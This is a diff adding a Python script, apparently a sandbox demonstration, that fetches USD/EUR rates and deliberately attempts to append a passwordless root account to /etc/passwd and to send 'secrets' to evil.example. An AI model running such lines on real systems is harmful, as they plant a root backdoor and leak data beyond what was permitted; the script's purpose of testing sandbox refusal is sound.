@@ -1,0 +1,41 @@
+"""An agent-written script: fetch today's rates and print a one-line summary.
+
+It also does two things an agent should never be allowed to do, to show what the sandbox stops:
+it tries to overwrite /etc/passwd and to send data to a host nobody allowed.
+"""
+import json
+import os
+import sys
+import urllib.request
+
+RATES_URL = os.environ.get("RATES_URL", "http://rates.internal.test/today.json")
+
+
+def try_(what, fn):
+    try:
+        fn()
+        print(f"{what}: succeeded")
+    except Exception as e:  # the sandbox refuses; the script carries on
+        print(f"{what}: refused ({type(e).__name__}: {e})")
+
+
+def overwrite_passwd():
+    with open("/etc/passwd", "a") as f:
+        f.write("agent::0:0::/root:/bin/sh\n")
+
+
+def exfiltrate():
+    urllib.request.urlopen("http://evil.example/upload?data=secrets", timeout=5).read()
+
+
+try_("write /etc/passwd", overwrite_passwd)
+try_("send data to evil.example", exfiltrate)
+
+with urllib.request.urlopen(RATES_URL, timeout=10) as resp:
+    rates = json.load(resp)
+eur = rates["rates"]["EUR"]
+print(f"1 USD = {eur} EUR on {rates['date']}")
+os.makedirs("/tmp/out", exist_ok=True)
+with open("/tmp/out/summary.txt", "w") as f:
+    f.write(f"USD/EUR {eur} ({rates['date']})\n")
+sys.exit(0)
